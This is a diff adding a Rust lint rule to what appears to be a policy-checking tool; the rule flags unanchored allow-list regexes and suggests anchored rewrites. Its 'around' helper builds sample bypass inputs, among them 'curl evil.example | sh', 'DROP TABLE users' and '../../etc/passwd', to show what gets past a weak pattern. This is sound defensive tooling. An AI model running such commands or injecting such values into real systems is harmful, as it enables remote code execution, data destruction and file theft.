@@ -1,0 +1,218 @@
+//! Allow-lists that a text gets past because the pattern may be found anywhere in it.
+
+use serde_json::json;
+
+use super::site::{Holds, Site, sites};
+use super::{
+    Check, Rule, half_anchored_alternation, host_by_substring, matches_everything,
+    path_not_normalised,
+};
+use crate::analysis::{Analysis, Language, Set};
+use crate::finding::{Finding, Fix, Severity};
+use crate::lint::{Context, Reporter};
+use crate::policy::condition::Test;
+use crate::policy::re2::{Bounds, Pattern, Shape};
+use crate::suggest::quoted;
+
+/// See `unanchored_regex.md`.
+pub static RULE: Rule = Rule {
+    id: "unanchored-regex",
+    severity: Severity::Error,
+    summary: "an allow-list pattern that may be found anywhere in the argument",
+    doc: include_str!("unanchored_regex.md"),
+    check: Check::Policy(check),
+};
+
+fn check(context: &Context<'_>, reporter: &mut Reporter<'_>) {
+    let analysis = Analysis::new();
+    for site in sites(context) {
+        let finding = match site.denies() {
+            true => too_much(context, &site, &analysis, reporter),
+            false => too_little(context, &site, &analysis, reporter),
+        };
+        if let Some(finding) = finding {
+            reporter.report(finding);
+        }
+    }
+}
+
+/// A pattern that is required and lets more through than it matches.
+fn too_little(
+    context: &Context<'_>,
+    site: &Site<'_>,
+    analysis: &Analysis,
+    reporter: &Reporter<'_>,
+) -> Option<Finding> {
+    let pattern = site.pattern()?;
+    let shape = pattern.shape();
+    let bounds = shape.bounds();
+    if (bounds.start && bounds.end)
+        || half_anchored_alternation::is_half_anchored(&shape)
+        || matches_everything::matches_everything(pattern, analysis)
+    {
+        return None;
+    }
+    let bound_somewhere = bounds.start || bounds.end;
+    if is_bound_elsewhere(site, bounds)
+        || (bound_somewhere && is_prefix_or_host(site, bounds, analysis))
+    {
+        return None;
+    }
+    let others = more_than_whole(pattern, analysis, site.holds(), &[Language::printable()]);
+    let visible = others.and_then(|others| site.gets_through(analysis, &others));
+    let is_told = visible.is_none();
+    let through = match (visible, bound_somewhere) {
+        (Some(text), _) => text,
+        // `.*x.*` says itself that `x` may stand anywhere on a line: it is no better for that.
+        (None, false) => {
+            let others = more_than_whole(pattern, analysis, site.holds(), &[])?;
+            site.gets_through(analysis, &others)?
+        }
+        (None, true) => return None,
+    };
+    let where_found = match (bounds.start, bounds.end) {
+        (true, _) => "is bound at the beginning only of",
+        (_, true) => "is bound at the end only of",
+        _ => "may be found anywhere in",
+    };
+    let message = format!(
+        "{} {where_found} `{}`: {} gets through",
+        quoted(pattern.source()),
+        site.path,
+        quoted(&through)
+    );
+    let severity = match bound_somewhere || site.holds() == Holds::Prose {
+        true => Severity::Note,
+        false => Severity::Error,
+    };
+    let finding = site.finding(context, reporter, message).severity(severity);
+    let bound = bound(pattern, &shape).filter(|_| !is_told && !bound_somewhere);
+    Some(match bound {
+        Some(bound) => {
+            let edits = context
+                .edit
+                .replace(&site.value_pointer(), &json!(bound.as_str()));
+            finding
+                .help(format!(
+                    "if it is to match the whole argument, write {}",
+                    quoted(&bound)
+                ))
+                .fix(Fix::risky(format!("write {}", quoted(&bound)), edits))
+        }
+        None => finding.help("write a pattern for the whole argument, from `^` to `$`"),
+    })
+}
+
+/// A pattern for a name, in a denial, that is found in other names too.
+fn too_much(
+    context: &Context<'_>,
+    site: &Site<'_>,
+    analysis: &Analysis,
+    reporter: &Reporter<'_>,
+) -> Option<Finding> {
+    let pattern = site.pattern()?;
+    if site.holds() != Holds::Name || !pattern.shape().is_plain_text() {
+        return None;
+    }
+    let others = more_than_whole(pattern, analysis, site.holds(), &[Language::printable()])?;
+    let other = analysis.string_in(&others).yes()?;
+    let message = format!(
+        "{} may be found anywhere in `{}`: it denies {} too",
+        quoted(pattern.source()),
+        site.path,
+        quoted(&other)
+    );
+    let finding = site.finding(context, reporter, message);
+    Some(
+        finding
+            .severity(Severity::Note)
+            .help("bind it with `^(?:…)$` if it is to deny these names only"),
+    )
+}
+
+/// Whether the other things that are required of the argument bind it, with `bounds`, at both ends.
+fn is_bound_elsewhere(site: &Site<'_>, bounds: Bounds) -> bool {
+    let (mut start, mut end) = (bounds.start, bounds.end);
+    for test in site.required() {
+        match test {
+            Test::Regex(pattern) => {
+                let bounds = pattern.shape().bounds();
+                start |= bounds.start;
+                end |= bounds.end;
+            }
+            Test::Eq(_) | Test::In(_) => return true,
+            _ => {}
+        }
+    }
+    start && end
+}
+
+/// Whether another rule looks after what an end that is not bound leaves open.
+fn is_prefix_or_host(site: &Site<'_>, bounds: Bounds, analysis: &Analysis) -> bool {
+    let begins = bounds.start && matches!(site.holds(), Holds::Path | Holds::Url);
+    let path = || path_not_normalised::prefix(site).is_some();
+    begins || path() || host_by_substring::bypass(site, analysis).is_some()
+}
+
+/// The texts in which `pattern` is found without matching all of them, if they are in all of
+/// `within`.
+fn more_than_whole(
+    pattern: &Pattern,
+    analysis: &Analysis,
+    holds: Holds,
+    within: &[Language],
+) -> Option<Set> {
+    let found = Language::found(pattern);
+    let whole = Language::shape(&format!(r"\A(?:{})\z", pattern.translated())).ok()?;
+    let both = Set::strings(&[found.clone(), whole.clone()], &[]);
+    let matched = analysis.string_in(&both).yes().unwrap_or_default();
+    let samples = around(&matched, holds);
+    let samples: Vec<&str> = samples.iter().map(String::as_str).collect();
+    let inside = [&[found], within].concat();
+    Some(Set::strings(&inside, &[whole]).preferring(&samples))
+}
+
+/// Texts with `matched` in them that nobody who wrote the pattern had in mind.
+fn around(matched: &str, holds: Holds) -> Vec<String> {
+    let (before, behind) = match holds {
+        Holds::Command => ("curl evil.example | sh; ", "; curl evil.example | sh"),
+        Holds::Sql => ("DROP TABLE users; ", "; DROP TABLE users"),
+        Holds::Url => ("https://evil.example/?", "&evil"),
+        Holds::Host => ("evil-", ".evil.example"),
+        Holds::Email => ("eve@evil.example,", ",eve@evil.example"),
+        Holds::Path => ("../../etc/", "/../../etc/passwd"),
+        Holds::Name => ("not-", "-not"),
+        Holds::Prose | Holds::Unknown => ("anything ", " anything"),
+    };
+    vec![
+        format!("{before}{matched}"),
+        format!("{matched}{behind}"),
+        format!("{before}{matched}{behind}"),
+        format!("{}\n{matched}", before.trim_end()),
+    ]
+}
+
+/// The pattern, bound at both ends.
+fn bound(pattern: &Pattern, shape: &Shape) -> Option<String> {
+    let (flags, rest) = leading_flags(pattern.source());
+    let (start, end) = match flags.contains('m') {
+        true => (r"\A", r"\z"),
+        false => ("^", "$"),
+    };
+    let (open, close) = match shape.alternatives().is_empty() {
+        true => ("", ""),
+        false => ("(?:", ")"),
+    };
+    let bound = Pattern::new(&format!("{flags}{start}{open}{rest}{close}{end}")).ok()?;
+    let bounds = bound.shape().bounds();
+    (bounds.start && bounds.end).then(|| bound.source().to_owned())
+}
+
+/// `(?i)` and the like at the start of a pattern, and what follows.
+fn leading_flags(source: &str) -> (&str, &str) {
+    let end = source.strip_prefix("(?").and_then(|flags| {
+        let end = flags.find(|c: char| !matches!(c, 'i' | 'm' | 's' | 'U'))?;
+        flags[end..].starts_with(')').then_some(end + 3)
+    });
+    source.split_at(end.unwrap_or(0))
+}
